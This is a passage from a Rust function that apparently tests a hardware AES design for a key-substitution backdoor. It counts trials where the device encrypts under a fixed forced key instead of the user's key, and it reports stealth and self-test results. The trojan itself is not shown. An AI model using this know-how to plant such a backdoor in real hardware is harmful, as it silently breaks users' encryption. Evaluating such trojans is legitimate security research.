            let device = encrypt_on_device(nl, reg, core, pads, k, p)?;
            let honest = crate::aes::aes128_encrypt(k, p);
            let forced = crate::aes::aes128_encrypt(&spec.k_st, p);
            let cex = (device != honest).then(|| Counterexample {
                user_key: *k,
                plaintext: *p,
                device_ciphertext: device,
                honest_ciphertext: honest,
            });
            Ok((device == forced, *k == spec.k_st, cex))
        })
        .collect::<Result<Vec<_>>>()?;

    let hijacked = outcomes.iter().filter(|(h, _, _)| *h).count();
    let degenerate = outcomes.iter().filter(|(_, d, _)| *d).count();
    let counterexample = outcomes.iter().find_map(|(_, _, c)| c.clone());
    Ok(StealthReport { self_test_pass, hijacked, trials, degenerate, counterexample })
}
